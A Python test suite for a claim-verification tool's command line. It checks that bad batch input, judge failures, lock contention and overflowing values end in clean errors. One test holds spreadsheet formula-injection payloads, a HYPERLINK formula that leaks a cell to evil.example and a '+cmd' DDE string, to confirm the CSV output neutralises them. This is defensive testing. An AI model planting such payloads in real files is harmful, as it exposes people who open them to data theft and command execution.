"""What used to end in a traceback, a lost row or duplicated work ends in a clear message and an
exit code: batch input that breaks the parser, rows over the work limits, a judge dying mid-run,
two runs on one ``--out``, outputs that cannot be written, ids and ages that overflow; and the CSV
reports never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from guardrail import Settings, Verifier
from guardrail.apps.batch import arun_batch_file, checkpoint_path, lock_path, read_rows
from guardrail.apps.cli import app
from guardrail.store import AuditStore
from guardrail.testing import HashEmbedder, LoopbackSite, OverlapJudge, Route
from tests.fixtures.llm_server import FakeLLMServer, Received, Reply, error_reply
from tests.test_batch import boiling_model

runner = CliRunner()
CLAIM = "At sea level pure water boils at 100 degrees Celsius."
NO_STORES = {"GUARDRAIL_CACHE": "off", "GUARDRAIL_AUDIT_DB": "off"}


def write_jsonl(path: Path, lines: list[str | dict[str, object]]) -> Path:
    path.write_text("".join((x if isinstance(x, str) else json.dumps(x)) + "\n" for x in lines), encoding="utf-8")
    return path


def assert_clean_exit(result: Result, code: int) -> None:
    """Exited with ``code`` through the CLI's own error path: no exception escaped."""
    assert result.exit_code == code, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output


def fake_verifier(**settings: object) -> Verifier:
    return Verifier(
        judge=OverlapJudge(),
        embedder=HashEmbedder(),
        settings=Settings(allow_private_hosts=True, cache_path="off", audit_path="off", **settings),  # type: ignore[arg-type]
    )


# -- batch input ----------------------------------------------------------------------------------


def test_a_deeply_nested_line_is_a_bad_line_not_a_traceback(tmp_path: Path, pages: LoopbackSite) -> None:
    path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [pages.url("/boiling")]}])
    with path.open("a", encoding="utf-8") as fh:
        fh.write('{"id": 2, "claim": ' + "[" * 100_000 + "]" * 100_000 + "}\n")
    result = runner.invoke(app, ["batch", str(path), "--out", str(tmp_path / "r.csv")], env=NO_STORES)
    assert_clean_exit(result, 2)
    assert f"{path}:2: invalid JSON: nested too deeply" in " ".join(result.stderr.split())


def test_line_and_paragraph_separators_inside_a_row_do_not_split_it(tmp_path: Path) -> None:
    claim = "Water boils\u2028at 100 degrees\u2029Celsius\u0085at sea level\x0cand\x1cmore."
    path = tmp_path / "in.jsonl"
    rows = [{"id": "a", "claim": claim, "urls": ["https://example.org/x"]}, {"id": "b", "answer": "Fine [1]."}]
    path.write_text("\r\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    read = read_rows(path)
    assert [(r.id, r.line) for r in read] == [("a", 1), ("b", 2)]
    assert read[0].claim == claim


async def test_a_row_over_the_size_limit_fails_alone_in_bounded_memory(tmp_path: Path, pages: LoopbackSite) -> None:
    huge = "Water boils at 100 degrees Celsius at sea level [1]. " * 200_000  # 10.6 MB
    path = write_jsonl(
        tmp_path / "in.jsonl",
        [
            {"id": "big", "answer": huge, "sources": [pages.url("/boiling")]},
            {"id": "ok", "claim": CLAIM, "urls": [pages.url("/boiling")]},
        ],
    )
    tracemalloc.start()
    try:
        outcome = await arun_batch_file(path, tmp_path / "r.csv", verifier=fake_verifier())
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    big, ok = outcome.results
    assert big.error is not None and "GUARDRAIL_MAX_ANSWER_CHARS" in big.error and "10600000 characters" in big.error
    assert ok.error is None and ok.claim_report is not None and ok.claim_report.overall == "supported"
    assert outcome.summary.rows_failed == 1
    assert peak < 200 * 1024 * 1024, f"{peak / 1e6:.0f} MB"  # a few copies of the row, nothing more


# -- a judge dying mid-run ------------------------------------------------------------------------


@pytest.fixture
def llm() -> Iterator[FakeLLMServer]:
    with FakeLLMServer() as server:
        yield server


def test_rows_judged_by_a_judge_that_died_fail_and_are_retried(
    tmp_path: Path, pages: LoopbackSite, llm: FakeLLMServer
) -> None:
    rows: list[str | dict[str, object]] = [
        {"id": f"r{n}", "claim": CLAIM, "urls": [pages.url("/boiling")]} for n in range(4)
    ]
    path = write_jsonl(tmp_path / "in.jsonl", rows)
    out = tmp_path / "r.csv"
    env = {**NO_STORES, "GUARDRAIL_JUDGE": "openai", "OPENAI_API_KEY": "sk-x", "OPENAI_BASE_URL": llm.openai_base_url}
    args = ["batch", str(path), "--out", str(out), "--concurrency", "1", "--allow-private-hosts"]

    def die_after_first(received: Received) -> Reply:  # the model answers once, then is gone
        return boiling_model(received) if len(llm.received) <= 1 else error_reply(400, "the model is gone")

    llm.responder = die_after_first
    first = runner.invoke(app, args, env=env)
    assert_clean_exit(first, 1)
    assert "4 rows (0 from the checkpoint, 3 failed)" in " ".join(first.stdout.split())
    assert "citation_precision=1.0000 (1/1)" in first.stdout  # the failed rows are not counted
    with out.open(newline="", encoding="utf-8") as fh:
        errors = [r["error"] for r in csv.DictReader(fh)]
    assert errors[0] == "" and all("judge_error" in e for e in errors[1:])

    llm.responder = boiling_model  # the judge is back
    before = len(llm.received)
    again = runner.invoke(app, args, env=env)
    assert_clean_exit(again, 0)
    assert "4 rows (1 from the checkpoint, 0 failed)" in " ".join(again.stdout.split())
    assert len(llm.received) - before == 3  # exactly the failed rows were judged again
    assert "citation_precision=1.0000 (4/4)" in again.stdout


# -- outputs ----------------------------------------------------------------------------------------


def test_an_unwritable_out_is_refused_before_any_work(tmp_path: Path, pages: LoopbackSite) -> None:
    path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [pages.url("/boiling")]}])
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    before = pages.hits.get("/boiling", 0)
    for out in (blocker / "r.csv", tmp_path):
        result = runner.invoke(app, ["batch", str(path), "--out", str(out), "--allow-private-hosts"], env=NO_STORES)
        assert_clean_exit(result, 2)
        assert "--out" in result.stderr
    assert pages.hits.get("/boiling", 0) == before


def test_a_second_run_on_the_same_out_stops_naming_the_lock(tmp_path: Path) -> None:
    with LoopbackSite({"/slow": Route(status=410, body="gone", delay=30.0)}) as site:
        path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [site.url("/slow")]}])
        out = tmp_path / "r.csv"
        cmd = [sys.executable, "-m", "guardrail.apps.cli", "batch", str(path), "--out", str(out)]
        env = {**os.environ, **NO_STORES, "GUARDRAIL_JUDGE": ""}
        first = subprocess.Popen(
            [*cmd, "--allow-private-hosts"], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        try:
            deadline = time.monotonic() + 60
            while not site.hits.get("/slow"):  # the first run holds the lock and is working
                assert first.poll() is None and time.monotonic() < deadline
                time.sleep(0.05)
            second = runner.invoke(app, ["batch", str(path), "--out", str(out), "--allow-private-hosts"], env=NO_STORES)
        finally:
            first.kill()
            first.wait()
    assert_clean_exit(second, 2)
    assert str(lock_path(out)) in " ".join(second.stderr.split()) and "another batch run" in second.stderr
    assert site.hits["/slow"] == 1  # the second run fetched nothing


def test_the_lock_is_free_again_after_a_run(tmp_path: Path, pages: LoopbackSite) -> None:
    path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [pages.url("/gone-410")]}])
    args = ["batch", str(path), "--out", str(tmp_path / "r.csv"), "--allow-private-hosts"]
    assert_clean_exit(runner.invoke(app, args, env=NO_STORES), 0)
    assert_clean_exit(runner.invoke(app, args, env=NO_STORES), 0)


async def test_csv_cells_never_become_spreadsheet_formulas(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    page = f"<html><body><article><p>{hostile} says water boils at 100 degrees Celsius.</p></article></body></html>"
    with LoopbackSite({"/hostile": Route(body=page * 3)}) as site:
        url = site.url("/hostile")
        rows: list[str | dict[str, object]] = [
            {
                "id": "-1+1",
                "claim": f"{hostile} says water boils at 100 degrees Celsius.",
                "urls": [url],
            },
            {"id": "@a", "claim": "+cmd|' /C calc'!A0 water boils.", "urls": [url]},
        ]
        path = write_jsonl(tmp_path / "in.jsonl", rows)
        await arun_batch_file(path, tmp_path / "r.csv", verifier=fake_verifier())
    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as fh:
        cells = [v for row in csv.DictReader(fh) for v in row.values() if v]
    assert cells and not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells)
    assert "'" + hostile + " says water boils at 100 degrees Celsius." in cells and "'-1+1" in cells


# -- the audit commands -----------------------------------------------------------------------------


def test_overflowing_ids_and_ages_are_input_errors(tmp_path: Path) -> None:
    db = tmp_path / "audit.sqlite3"
    AuditStore(db).count()
    huge = "9" * 40
    cases = [
        (["replay", huge, "--db", str(db)], "no audit row"),
        (["audit", "show", huge, "--db", str(db)], "no audit row"),
        (["audit", "list", "--since", "99999999999d", "--db", str(db)], "too far back"),
        (["audit", "export", "--since", "1" + "0" * 400 + "s", "--db", str(db)], "too far back"),
    ]
    for args, message in cases:
        result = runner.invoke(app, args, env=NO_STORES)
        assert_clean_exit(result, 2)
        assert message in result.stderr, (args, result.stderr)


def test_an_unwritable_export_out_is_an_input_error(tmp_path: Path) -> None:
    db = tmp_path / "audit.sqlite3"
    AuditStore(db).count()
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    result = runner.invoke(app, ["audit", "export", "--db", str(db), "--out", str(blocker / "x.jsonl")], env=NO_STORES)
    assert_clean_exit(result, 2)
    assert "a-file" in result.stderr


def test_serve_refuses_a_blank_api_key_naming_the_variable() -> None:
    result = runner.invoke(app, ["serve", "--port", "9"], env={**NO_STORES, "GUARDRAIL_API_KEY": "   "})
    assert_clean_exit(result, 2)
    assert "GUARDRAIL_API_KEY" in result.stderr and "blank" in result.stderr


def test_an_out_through_a_symlink_locks_the_file_it_names(tmp_path: Path, pages: LoopbackSite) -> None:
    real = tmp_path / "reports" / "r.csv"
    real.parent.mkdir()
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert lock_path(link) == lock_path(real) and checkpoint_path(link) == checkpoint_path(real)
    hold = "import filelock, sys, time\nlock = filelock.FileLock(sys.argv[1])\nlock.acquire()\n"
    hold += "print('held', flush=True)\ntime.sleep(99)\n"
    holder = subprocess.Popen([sys.executable, "-c", hold, str(lock_path(real))], stdout=subprocess.PIPE, text=True)
    path = write_jsonl(tmp_path / "in.jsonl", [{"id": 1, "claim": CLAIM, "urls": [pages.url("/gone-410")]}])
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        # Another run writes the target: a run on the link must stop, not write beside it.
        blocked = runner.invoke(app, ["batch", str(path), "--out", str(link), "--allow-private-hosts"], env=NO_STORES)
    finally:
        holder.kill()
        holder.wait()
    assert_clean_exit(blocked, 2)
    assert "another batch run" in blocked.stderr
    done = runner.invoke(app, ["batch", str(path), "--out", str(link), "--allow-private-hosts"], env=NO_STORES)
    assert_clean_exit(done, 0)
    assert link.is_symlink() and "gone-410" in real.read_text(encoding="utf-8")  # the link's file written
